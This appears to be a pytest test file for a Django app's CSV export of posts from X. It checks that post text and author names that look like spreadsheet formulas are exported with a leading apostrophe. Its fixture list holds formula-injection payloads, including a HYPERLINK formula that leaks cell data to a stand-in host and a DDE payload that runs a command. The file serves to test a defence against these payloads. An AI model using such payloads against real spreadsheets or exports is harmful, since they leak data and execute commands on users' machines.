"""The stream's CSV export (/listening/posts.csv) writes text from X as text: a post or
an author's name that starts like a formula does not become one in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from tests.factories import (
    MembershipFactory,
    SourceFactory,
    SourceTweetFactory,
    TweetFactory,
    XUserFactory,
)

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&B2,"Brightline support")',
    "+cmd|' /C calc'!A0",
    "-1+1 our price",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_posts_and_names_that_start_like_formulas_are_exported_as_text(client, marketing):
    member = MembershipFactory(department=marketing, role="viewer").user
    source = SourceFactory(kind="mentions")
    for n, text in enumerate(FORMULAS):
        author = XUserFactory(username=f"evil{n}", name=text)
        SourceTweetFactory(source=source, tweet=TweetFactory(text=text, author=author))
    SourceTweetFactory(source=source, tweet=TweetFactory(text="Plain words", like_count=3))
    client.force_login(member)

    response = client.get(reverse("listening:stream_export"))

    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    exported = {row["text"] for row in rows}
    assert exported == {"'" + text for text in FORMULAS} | {"Plain words"}
    assert {row["author_name"] for row in rows if row["text"] != "Plain words"} == {
        "'" + text for text in FORMULAS
    }
    plain = next(row for row in rows if row["text"] == "Plain words")
    assert plain["likes"] == "3" and plain["id"].isdigit()
    for row in rows:
        assert not row["text"].startswith(("=", "+", "-", "@", "\t", "\r"))
